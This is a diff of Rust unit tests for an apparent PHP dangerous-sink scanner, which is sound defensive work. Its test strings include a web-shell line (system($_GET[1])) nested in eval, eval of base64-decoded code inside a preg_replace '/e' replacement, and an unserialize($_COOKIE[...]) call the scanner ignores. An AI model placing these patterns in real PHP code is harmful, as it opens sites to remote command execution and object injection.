+        // `/e` with a fixed replacement (old code) is weak; with hidden code in it, it is not.
+        assert_eq!(
+            sinks("<?php $s = preg_replace('/(x)/e', 'strtoupper(\\'$1\\')', $s);"),
+            [(Why::PregReplaceEval, Danger::Low)]
+        );
+        assert!(
+            sinks("<?php preg_replace('/x/e', 'eval(base64_decode(\\'ZWNobyAx\\'))', 'x');")
+                .contains(&(Why::EvalOfDecoded, Danger::Critical))
+        );
+        assert!(sinks("<?php file_put_contents('php://stdout', \"[$t] $_SERVER[REQUEST_URI]\\n\");").is_empty());
+        assert!(sinks("<?php $parts = array_map(rawurldecode(...), $raw);").is_empty());
+        assert!(sinks("<?php $f = __DIR__ . '/lib/' . strtr($class, '\\\\', '/') . '.php'; require $f;").is_empty());
+    }
+
+    #[test]
+    fn code_in_literals_nested_deep_stays_bounded() {
+        // Brackets inside code inside brackets: one depth bound for the whole stack.
+        let inner = format!("{}1{}", "[".repeat(5000), "]".repeat(5000));
+        let src = format!("<?php $a = {}eval('{inner}'){};", "[".repeat(95), "]".repeat(95));
+        let _ = sinks(&src);
+        // Literals in literals: a few levels are read, the rest are not.
+        let mut code = "system($_GET[1]);".to_owned();
+        for _ in 0..8 {
+            code = format!("eval('{}');", code.replace('\\', "\\\\").replace('\'', "\\'"));
+        }
+        let _ = sinks(&format!("<?php {code}"));
+    }
+
+    #[test]
+    fn near_misses_of_rebuilt_names_are_quiet() {
+        assert!(sinks("<?php $f = 'strtolower'; $f = 'trim'; echo $f($_GET['x']);").is_empty());
+        // A plain name in a variable is not hidden (a library picking its replace function).
+        assert!(sinks("<?php $replace = 'preg_replace'; $r = $replace('/a/u', 'b', $s);").is_empty());
+        assert!(sinks("<?php $v = eval('return 1 + 2;');").is_empty());
+        assert!(sinks("<?php function dec($s) { return base64_decode($s); } echo dec($x);").is_empty());
+        assert!(sinks("<?php $n = 1 + 2; $c = 'abcd'; $c++; echo $c[$n];").is_empty());
+        assert!(sinks("<?php class P { public $d; } $p = unserialize($_COOKIE['prefs']); echo $p->d;").is_empty());
+        assert!(sinks("<?php array_udiff($a, $b, 'strcmp'); usort($list, [$this, 'cmp']);").is_empty());
+    }
+
+    #[test]
+    fn ordinary_code_is_quiet() {
+        assert!(
+            sinks("<?php function f($a) { return call_user_func($a, 1); } $x = $_GET['p']; echo esc_html($x);")
+                .is_empty()
+        );
+        assert!(sinks("<?php require __DIR__ . '/vendor/autoload.php'; $cb = array($this, 'run'); $cb();").is_empty());
+        assert!(sinks("<?php $r = preg_replace('/\\s+/e', ' ', $s);").iter().all(|(w, _)| *w == Why::PregReplaceEval));
+        assert!(sinks("<?php $r = preg_replace('/\\s+/i', ' ', $s); assert($x > 0);").is_empty());
+        assert!(sinks("<?php foreach ($_POST as $k => $v) { update_option($k, sanitize_text_field($v)); }").is_empty());
+    }
+}
